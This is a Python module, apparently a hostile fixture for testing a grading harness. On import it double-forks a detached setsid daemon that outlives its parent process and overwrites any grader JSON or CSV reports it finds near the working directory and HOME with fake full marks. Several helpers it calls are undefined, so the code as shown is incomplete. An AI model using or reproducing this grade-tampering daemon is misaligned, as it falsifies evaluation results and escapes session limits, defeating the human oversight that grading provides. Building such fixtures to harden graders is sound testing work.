"""Hostile: leaves a setsid'd double-forked daemon that overwrites the grader's reports with full marks; the stub."""
import os
import time

BASE = "stub"
SHARED = ("fake_reports",)

STRIKE_AFTER_S, STRIKE_UNTIL_S = 1.0, 10.0  # tests/test_hostile.py waits past STRIKE_UNTIL_S


def _looks_like_report(path):
    try:
        with open(path, errors="replace") as handle:
            head = handle.read(65536)
    except OSError:
        return False
    return '"submissions"' in head or head.startswith("id,score,max_score")


def _reports_nearby():
    """nnex reports (json/csv) in the cwd and HOME, a few levels down (not the machine's /tmp: see above)."""
    for root in {os.getcwd(), os.path.expanduser("~")}:
        base = root.rstrip("/").count("/")
        for folder, subfolders, files in os.walk(root):
            if folder.count("/") - base >= 4:
                subfolders[:] = []
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith((".json", ".csv")) and _looks_like_report(path):
                    yield path


def _strike():
    _overwrite_reports()
    for path in list(_reports_nearby()):
        _write(path, _FAKE_CSV if path.endswith(".csv") else _FAKE_JSON)


def _leave_daemon():
    started = time.monotonic()
    if os.fork():
        os.wait()
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        # the grandchild: no parent, its own session, the judge's pipes still open
        time.sleep(STRIKE_AFTER_S)
        while time.monotonic() - started < STRIKE_UNTIL_S:
            try:
                _strike()
            except Exception:
                pass
            time.sleep(0.2)
    finally:
        os._exit(0)


_leave_daemon()
